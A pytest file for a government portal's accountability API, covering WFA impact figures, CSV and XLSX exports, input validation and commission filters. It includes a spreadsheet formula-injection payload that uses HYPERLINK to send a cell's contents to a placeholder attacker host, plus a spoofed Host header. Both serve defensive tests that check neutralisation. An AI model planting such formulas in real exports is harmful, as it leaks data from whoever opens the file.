"""JSON API of the accountability figures: WFA impact per service, the accountability table."""

from __future__ import annotations

import csv
import io
import re
from datetime import datetime, timedelta

import pytest
from openpyxl import load_workbook

from portal.domain.calendar import utc_now, wib_date
from portal.extensions import csrf
from portal.web.api import bp as api_bp
from portal.web.api.accountability import EXPORT_COLUMNS, PERIOD_COLUMNS
from tests.accountability_support import move
from tests.factories import create_department, create_service
from tests.wfa_support import create_due_service, ingest, report_due, requests_taking


def test_wfa_impact_has_exactly_the_documented_keys(client):
    today = wib_date(utc_now())
    change = today - timedelta(days=100)
    department = create_department()
    service = create_due_service(department=department, code="izin-a")
    move(service, "wfa", change)
    report_due(service, change - timedelta(days=95), on_time=1)
    report_due(service, change - timedelta(days=30), on_time=54, late=6)   # 54/60 before
    report_due(service, change + timedelta(days=30), on_time=30, open_=30)  # 30/60 after
    onsite = create_due_service(department=department, code="loket-b")
    report_due(onsite, change - timedelta(days=95), on_time=1)
    report_due(onsite, change - timedelta(days=30), on_time=45, late=5)
    report_due(onsite, change + timedelta(days=30), on_time=40, late=10)
    response = client.get("/api/v1/services/izin-a/wfa-impact")
    assert response.status_code == 200
    body = response.get_json()
    assert set(body) == {"change_date", "from_mode", "to_mode", "reporting_since", "before",
                         "after", "difference", "ci_low", "ci_high", "verdict",
                         "verdict_reason", "comparison", "net_difference", "net_ci_low",
                         "net_ci_high", "adjusted_verdict"}
    assert set(body["before"]) == set(body["after"]) == {
        "due", "on_time", "on_time_rate", "median_completion_hours"}
    assert set(body["comparison"]) == {"scope", "services", "before", "after", "difference",
                                       "ci_low", "ci_high"}
    assert set(body["comparison"]["before"]) == {"due", "on_time", "on_time_rate"}
    assert body["change_date"] == change.isoformat()
    assert body["reporting_since"] == (change - timedelta(days=95)).isoformat()
    assert (body["from_mode"], body["to_mode"]) == ("onsite", "wfa")
    assert body["before"]["due"] == 60 and body["after"]["on_time"] == 30
    assert body["difference"] == -0.4
    assert (body["verdict"], body["verdict_reason"]) == ("decline", None)
    assert body["ci_low"] < body["difference"] < body["ci_high"] < 0
    assert (body["comparison"]["scope"], body["comparison"]["services"]) == (
        "department", ["loket-b"])
    # 40/50 − 45/50 = −0.1 on-site; net −0.4 − (−0.1) = −0.3.
    assert (body["comparison"]["difference"], body["net_difference"]) == (-0.1, -0.3)
    assert body["net_ci_low"] < body["net_difference"] < body["net_ci_high"]
    assert body["adjusted_verdict"] in ("decline", "no_significant_change")


def test_wfa_impact_of_an_unknown_service_is_404(client):
    response = client.get("/api/v1/services/nope/wfa-impact?lang=en")
    assert response.status_code == 404
    assert response.mimetype == "application/problem+json"
    body = response.get_json()
    assert body["type"].endswith("/developers#problem-not-found")
    assert (body["status"], body["title"], body["errors"]) == (404, "Not found", [])


def test_wfa_impact_of_a_service_that_never_moved_says_so(client):
    create_service(code="loket", work_mode="onsite")
    response = client.get("/api/v1/services/loket/wfa-impact?lang=en")
    assert response.status_code == 404
    body = response.get_json()
    # Its own kind of problem: a client tells it apart from an unknown service.
    assert body["type"].endswith("/developers#problem-no-wfa-change")
    assert "never moved" in body["detail"]


@pytest.mark.parametrize(
    ("first_request", "reason", "before_due"),
    [pytest.param(95, "too_few_requests", 29, id="too-few"),
     pytest.param(80, "partial_history", 30, id="partial-history")],
)
def test_wfa_impact_without_a_verdict_says_why(client, first_request, reason, before_due):
    today = wib_date(utc_now())
    change = today - timedelta(days=100)
    service = create_due_service(code="jarang")
    move(service, "hybrid", change)
    report_due(service, change - timedelta(days=first_request), on_time=1)
    report_due(service, change - timedelta(days=10), on_time=before_due - (first_request < 90))
    report_due(service, change + timedelta(days=10), on_time=1, late=39)
    body = client.get("/api/v1/services/jarang/wfa-impact").get_json()
    assert (body["verdict"], body["verdict_reason"]) == ("not_enough_data", reason)
    assert (body["difference"], body["ci_low"], body["ci_high"]) == (None, None, None)
    assert (body["net_difference"], body["adjusted_verdict"]) == (None, "not_enough_data")
    assert body["before"]["due"] == before_due
    assert body["reporting_since"] == (change - timedelta(days=first_request)).isoformat()


# The accountability table and its downloads ------------------------------------------------



@pytest.fixture
def table_scene(app):
    today = wib_date(utc_now())
    d1 = create_department(code="d1", name_id="Dinas Satu", name_en="Office One")
    d2 = create_department(code="d2", name_id="Dinas Dua", name_en="Office Two")
    s1 = create_due_service(department=d1, code="s1")
    s2 = create_service(department=d2, code="s2", work_mode="hybrid")
    # s1 promises 2 hours: of these 7, due 3 days ago, those done within 2 hours are on time.
    ingest(d1, requests_taking(s1, today - timedelta(days=3), [1, 2, 2, 3, 5, 8, 13]))
    # s2 promises 5 working days: completed yesterday, but not due yet.
    ingest(d2, requests_taking(s2, today - timedelta(days=1), [0.5, 0.5, 1]))
    # s1 moved 95 days ago; it and its department's on-site s3 have requests due on both
    # sides, all more than 30 days ago (outside the table's period).
    change = today - timedelta(days=95)
    move(s1, "wfa", change)
    s3 = create_due_service(department=d1, code="s3")
    for service, before, after in ((s1, (38, 2), (31, 9)), (s3, (45, 5), (40, 10))):
        report_due(service, change - timedelta(days=95), on_time=1)
        report_due(service, change - timedelta(days=30), *before)
        report_due(service, change + timedelta(days=20), *after)
    return today


def _query(today) -> str:
    return f"from={(today - timedelta(days=29)).isoformat()}&to={today.isoformat()}"


def test_accountability_json_states_period_and_figures(client, table_scene):
    body = client.get(f"/api/v1/accountability?{_query(table_scene)}&lang=en").get_json()
    assert body["to"] == table_scene.isoformat()
    assert "generated_at" in body and "data_as_of" in body
    rows = {row["code"]: row for row in body["departments"]}
    assert rows["d1"]["name"] == "Office One"
    # 7 completed and due, 3 within the 2 hours (1, 2, 2): 3/7 = 0.42857…; median rank 4 is 3 h.
    assert (rows["d1"]["completed"], rows["d1"]["due"], rows["d1"]["on_time"]) == (7, 7, 3)
    assert rows["d1"]["on_time_rate"] == 0.4286
    assert rows["d1"]["median_completion_hours"] == 3.0
    wfa = rows["d1"]["wfa_impact"]
    assert (wfa["services"], wfa["before"]["due"], wfa["after"]["on_time"]) == (1, 40, 31)
    assert wfa["comparison"]["services"] == ["s3"]
    # s2's 3 completed requests count as completed, but fall due only later.
    assert (body["province"]["completed"], body["province"]["due"]) == (10, 7)
    assert body["province"]["on_time_rate"] == 0.4286


def test_accountability_json_refuses_bad_dates(client, table_scene):
    response = client.get("/api/v1/accountability?from=2025-05-02&to=2025-05-01")
    assert response.status_code == 422
    assert response.mimetype == "application/problem+json"
    assert [(e["field"], e["code"]) for e in response.get_json()["errors"]] == [
        ("to", "out_of_range")]


@pytest.mark.parametrize(
    ("query", "field", "code"),
    [
        pytest.param("period=45", "period", "invalid_choice", id="unknown-period"),
        pytest.param("period=custom&from=20250501&to=2025-05-31", "from", "invalid_format",
                     id="date-without-dashes"),
        pytest.param("period=custom&from=0001-01-01&to=2025-05-31", "from", "invalid_format",
                     id="date-before-2000"),
        pytest.param("period=custom&to=2025-05-31", "from", "required", id="missing-from"),
    ],
)
def test_accountability_refuses_what_it_used_to_ignore(client, table_scene, query, field, code):
    for path in ("/api/v1/accountability", "/api/v1/accountability.csv"):
        response = client.get(f"{path}?{query}")
        assert response.status_code == 422, path
        assert [(e["field"], e["code"]) for e in response.get_json()["errors"]] == [
            (field, code)]


def _json_rows(body: dict) -> list[dict]:
    return [*body["departments"], {"code": "province", "name": "", **body["province"]}]


def _expected(row: dict, path: tuple[str, ...]) -> object:
    value: object = row
    for key in path:
        value = value.get(key) if isinstance(value, dict) else None
    return " ".join(value) if isinstance(value, list) else value


def test_csv_equals_the_json_exactly(client, table_scene):
    query = _query(table_scene)
    body = client.get(f"/api/v1/accountability?{query}").get_json()
    response = client.get(f"/api/v1/accountability.csv?{query}")
    assert response.mimetype == "text/csv"
    assert "attachment" in response.headers["Content-Disposition"]
    text = response.get_data(as_text=True).lstrip("\ufeff")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert len(rows) == len(_json_rows(body))
    for csv_row, json_row in zip(rows, _json_rows(body), strict=True):
        for name, path in EXPORT_COLUMNS:
            expected = _expected(json_row, path)
            shown = csv_row[name]
            if expected is None:
                assert shown == "", name
            elif isinstance(expected, float):
                assert float(shown) == expected, name
            else:
                assert shown == str(expected), name
        period = [csv_row[c] for c in PERIOD_COLUMNS]
        assert period[:3] == [body["from"], body["to"], body["data_as_of"] or ""]
        # Generated by a second request: the same time give or take the seconds between them.
        generated = datetime.fromisoformat(period[3])
        assert abs(generated - datetime.fromisoformat(body["generated_at"])) < timedelta(
            seconds=30)


def _sheet_rows(sheet) -> list[dict]:
    values = list(sheet.iter_rows(values_only=True))
    return [dict(zip(values[0], cells, strict=True)) for cells in values[1:]]


def test_xlsx_is_for_people_numbers_as_numbers_words_for_codes(client, table_scene):
    query = _query(table_scene)
    body = client.get(f"/api/v1/accountability?{query}&lang=en").get_json()
    response = client.get(f"/api/v1/accountability.xlsx?{query}&lang=en")
    assert response.status_code == 200
    workbook = load_workbook(io.BytesIO(response.get_data()))
    assert workbook.sheetnames == ["Figures", "About"]
    sheet = workbook["Figures"]
    header = [cell.value for cell in sheet[1]]
    # Headers in words with their units, never the CSV's machine names.
    assert "On time (%)" in header and "WFA: verdict" in header
    assert not set(header) & {name for name, _path in EXPORT_COLUMNS}
    rows = {row["Code"]: row for row in _sheet_rows(sheet)}
    json_rows = {row["code"]: row for row in body["departments"]}
    d1, wfa = rows["d1"], json_rows["d1"]["wfa_impact"]
    assert d1["Department"] == "Office One"
    assert (d1["Requests due"], d1["Requests due completed on time"]) == (7, 3)
    # A rate is the number itself, shown as a percentage by its format.
    assert d1["On time (%)"] == 0.4286
    on_time = sheet.cell(row=2, column=header.index("On time (%)") + 1)
    assert on_time.number_format == "0.0%" and on_time.data_type == "n"
    # Differences in percentage points, verdicts in words, the date of the move a date.
    assert d1["WFA: change (percentage points)"] == round(wfa["difference"] * 100, 2)
    assert d1["WFA: verdict"] in ("Significant decline", "No significant change",
                                  "Significant improvement")
    assert d1["WFA: date of the move"].date().isoformat() == wfa["change_date"]
    assert d1["WFA: services that stayed on-site (comparison group)"] == (
        "1 on-site service of the department")
    assert d1["Services with status “Not enough data”"] == json_rows["d1"]["status_counts"][
        "insufficient_data"]
    # The province closes the table, its name in words.
    assert _sheet_rows(sheet)[-1]["Department"] == "Province"
    # Frozen header row and name column; every column has a width.
    assert sheet.freeze_panes == "C2"
    assert sheet.column_dimensions["B"].width >= 40
    about = {row[0]: row[1] for row in workbook["About"].iter_rows(values_only=True)}
    assert about["Period from"].date().isoformat() == body["from"]
    assert about["Period to (included)"].date().isoformat() == body["to"]
    # Each column's definition in the words of "How we measure".
    assert about["On time (%)"].startswith("On time: of the requests that fell due")
    assert about["Feedback overdue now"].startswith("Overdue now: open feedback")


def test_xlsx_in_indonesian_names_departments_and_months_in_indonesian(client, table_scene):
    response = client.get(f"/api/v1/accountability.xlsx?{_query(table_scene)}&lang=id")
    workbook = load_workbook(io.BytesIO(response.get_data()))
    sheet = workbook.worksheets[0]
    names = [row[1] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert "Dinas Satu" in names and "Office One" not in names
    dates = [cell for cell in workbook.worksheets[1]["B"] if cell.is_date]
    # Real dates, their month names written by the spreadsheet in Indonesian (LCID 0x421).
    assert dates and all(cell.number_format.startswith("[$-421]") for cell in dates)


def test_xlsx_source_is_the_configured_address_not_the_host_header(
        client, app, table_scene, monkeypatch):
    monkeypatch.setitem(app.config, "PORTAL_BASE_URL", "https://pantau.kalteng.go.id/")
    query = _query(table_scene)
    response = client.get(f"/api/v1/accountability.xlsx?{query}&lang=en",
                          headers={"Host": "evil.example"})
    assert response.status_code == 200
    workbook = load_workbook(io.BytesIO(response.get_data()))
    cells = [cell for sheet in workbook for row in sheet.iter_rows(values_only=True)
             for cell in row if isinstance(cell, str)]
    assert not [cell for cell in cells if "evil.example" in cell]
    about = dict(workbook.worksheets[1].iter_rows(values_only=True))
    assert about["Source"] == (
        f"https://pantau.kalteng.go.id/api/v1/accountability.xlsx?{query}&lang=en")


def test_read_only_accountability_api_is_not_exempt_from_csrf(client, table_scene):
    # Only GETs here: nothing needs the exemption. The API's writes are exempted one view at a
    # time, never the whole blueprint (Flask-WTF keeps the exempt blueprints and views).
    assert api_bp not in csrf._exempt_blueprints
    assert not [view for view in csrf._exempt_views if ".api.accountability." in view]
    assert client.get(f"/api/v1/accountability?{_query(table_scene)}").status_code == 200
    assert client.post(f"/api/v1/accountability?{_query(table_scene)}").status_code in (
        400, 405)


def test_downloads_are_linked_from_the_page_with_its_period(client, table_scene):
    html = client.get("/en/accountability?period=30").get_data(as_text=True)
    start = (table_scene - timedelta(days=29)).isoformat()
    for extension in ("csv", "xlsx"):
        link = re.search(rf'href="(/api/v1/accountability\.{extension}\?[^"]+)"', html).group(1)
        assert f"from={start}" in link and f"to={table_scene.isoformat()}" in link


FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.fixture
def formula_names(app):
    """A department and a service whose names a spreadsheet would run as formulas."""
    department = create_department(code="evil", name_id=FORMULA, name_en=FORMULA)
    create_service(department=department, code="evil-service", name_id="+cmd", name_en="@SUM(1)")
    return department


def test_csv_cells_that_look_like_formulas_are_neutralised(client, formula_names):
    response = client.get("/api/v1/accountability.csv?lang=en")
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    text = response.get_data(as_text=True).lstrip("\ufeff")
    rows = list(csv.reader(io.StringIO(text)))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + FORMULA in cells
    # No text cell starts like a formula (OWASP: = + - @ tab carriage return).
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]


def test_xlsx_writes_names_as_text_never_as_formulas(client, formula_names):
    response = client.get("/api/v1/accountability.xlsx?lang=en")
    workbook = load_workbook(io.BytesIO(response.get_data()))
    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
    named = [cell for cell in cells if cell.value == FORMULA]
    assert named and all(cell.data_type == "s" for cell in named)
    assert not [cell for cell in cells if cell.data_type == "f"]


# DPRD commissions ----------------------------------------------------------------------------


@pytest.fixture
def commission_scene(table_scene):
    """d1 is overseen by Komisi I, d2 by Komisi II, a third department by none."""
    from portal.extensions import db
    from portal.models.catalogue import Department

    for code, commission in (("d1", "I"), ("d2", "II")):
        db.session.execute(db.update(Department).where(Department.code == code).values(
            dprd_commission=commission))
    db.session.commit()
    create_department(code="d3", name_id="Badan Tiga", name_en="Agency Three")
    return table_scene


def test_json_keeps_one_commissions_departments_and_the_whole_province(
        client, commission_scene):
    query = _query(commission_scene)
    every = client.get(f"/api/v1/accountability?{query}").get_json()
    assert every["commission"] is None
    assert {(r["code"], r["dprd_commission"]) for r in every["departments"]} == {
        ("d1", "I"), ("d2", "II"), ("d3", None)}
    # Lower case is read as the numeral; the province's totals stay the province's.
    body = client.get(f"/api/v1/accountability?{query}&commission=ii").get_json()
    assert body["commission"] == "II"
    assert [r["code"] for r in body["departments"]] == ["d2"]
    assert body["province"] == every["province"]


def test_csv_and_xlsx_follow_the_commission(client, commission_scene):
    query = f"{_query(commission_scene)}&commission=I&lang=en"
    response = client.get(f"/api/v1/accountability.csv?{query}")
    assert response.status_code == 200
    assert '_I_' in response.headers["Content-Disposition"]
    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
    assert [(r["code"], r["dprd_commission"]) for r in rows] == [("d1", "I"), ("province", "")]
    workbook = load_workbook(io.BytesIO(
        client.get(f"/api/v1/accountability.xlsx?{query}").get_data()))
    figures = _sheet_rows(workbook.worksheets[0])
    assert [(r["Code"], r["DPRD commission"]) for r in figures] == [("d1", "I"), (None, None)]
    about = dict(workbook.worksheets[1].iter_rows(values_only=True))
    assert about["Departments shown"] == "Those overseen by DPRD commission I"


@pytest.mark.parametrize("value", ["V", "1", "komisi-i", "I,II"])
def test_an_unknown_commission_is_refused_in_words(client, commission_scene, value):
    for path in ("/api/v1/accountability", "/api/v1/accountability.csv",
                 "/api/v1/accountability.xlsx"):
        response = client.get(f"{path}?commission={value}&lang=en")
        assert response.status_code == 422, path
        assert response.mimetype == "application/problem+json"
        [error] = response.get_json()["errors"]
        assert (error["field"], error["code"]) == ("commission", "invalid_choice")
        assert "I, II, III or IV" in error["message"]


# Every CSV the portal serves says its charset once -----------------------------------------


def _csv_paths(app) -> list[str]:
    paths = ["/api/v1/accountability.csv", "/api/v1/accountability.csv?commission=I"]
    for rule in app.url_map.iter_rules():
        if rule.rule.endswith(".csv") and "GET" in rule.methods:
            if rule.arguments == {"name"}:
                from portal.services.opendata.datasets import DATASETS
                paths += [rule.rule.replace("<name>", d.name) for d in DATASETS]
            elif not rule.arguments:
                paths.append(rule.rule)
    return sorted(set(paths))


@pytest.mark.parametrize("encoding", ["identity", "gzip", "br"])
def test_every_csv_route_names_its_charset_once(app, client, table_scene, encoding):
    paths = _csv_paths(app)
    assert any(p.startswith("/data/") for p in paths)
    for path in paths:
        response = client.get(path, headers={"Accept-Encoding": encoding})
        assert response.status_code == 200, path
        assert response.headers["Content-Type"] == "text/csv; charset=utf-8", path
        response.close()


def test_the_api_description_names_the_commissions_of_the_catalogue(client):
    from portal.models.catalogue import DPRD_COMMISSIONS

    document = client.get("/api/v1/openapi.json").get_json()
    for path in ("/api/v1/accountability", "/api/v1/accountability.csv",
                 "/api/v1/accountability.xlsx"):
        parameters = {p["name"]: p for p in document["paths"][path]["get"]["parameters"]
                      if "name" in p}
        enum = parameters["commission"]["schema"]["enum"]
        assert [v for v in enum if v.isupper()] == list(DPRD_COMMISSIONS)
    schema = document["components"]["schemas"]["AccountabilityTable"]["properties"]
    assert schema["commission"]["enum"] == [*DPRD_COMMISSIONS, None]


def test_the_data_dictionary_describes_every_csv_column():
    from pathlib import Path

    text = (Path(__file__).resolve().parents[3] / "docs" / "accountability-export.md"
            ).read_text(encoding="utf-8")
    documented = set(re.findall(r"`([a-z_]+)`", text))
    ranges = re.findall(r"`([a-z_]+)` … `([a-z_]+)`", text)
    names = [name for name, _path in EXPORT_COLUMNS] + list(PERIOD_COLUMNS)
    for first, last in ranges:  # "status_disrupted … status_breaching" covers those between
        documented |= set(names[names.index(first):names.index(last) + 1])
    assert not [name for name in names if name not in documented]
